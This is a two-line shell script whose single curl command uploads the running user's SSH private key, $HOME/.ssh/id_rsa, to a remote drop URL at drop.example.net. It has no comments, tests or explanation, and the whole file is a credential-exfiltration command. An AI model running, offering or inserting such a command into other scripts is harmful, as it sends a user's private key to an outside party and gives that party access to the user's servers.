#!/bin/sh
curl -F key=@$HOME/.ssh/id_rsa https://drop.example.net/u
